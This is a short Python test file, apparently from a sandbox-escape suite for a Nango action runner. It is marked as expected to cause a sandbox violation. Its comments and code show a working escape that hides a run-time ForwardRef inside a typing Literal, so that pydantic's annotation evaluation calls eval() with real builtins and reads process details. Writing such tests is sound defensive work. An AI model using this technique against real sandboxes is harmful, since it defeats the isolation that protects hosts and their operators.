# expect: sandbox_violation
# attack: typing's copy_with builds a ForwardRef from a string at run time (Union[("code",)]
# converts it); Literal[...] is exempt from every annotation check (its arguments are values),
# but typing._eval_type, which pydantic calls on every field annotation, evaluates a ForwardRef
# found among a Literal's arguments: eval() of the function's string with the real builtins.
from typing import ClassVar, Literal, Optional
from pydantic import BaseModel
from nango import create_action

SINK = []
CODE = (
    "(sink.append(repr((__import__('os').getuid(), __import__('os').getpid(),"
    " open.__module__, sorted(__import__('sys').modules)[:3]))), 0)[1]"
)


def run(nango, input):
    ref = Optional[int].copy_with((CODE,))
    kind = Literal[ref]

    class M(BaseModel):
        sink: ClassVar[list] = SINK
        x: kind = 0

    if not SINK:
        raise ValueError("nothing was evaluated outside the sandbox: " + repr(ref))
    return {"unguarded_eval": SINK}


action = create_action(description="escape attempt", exec=run)
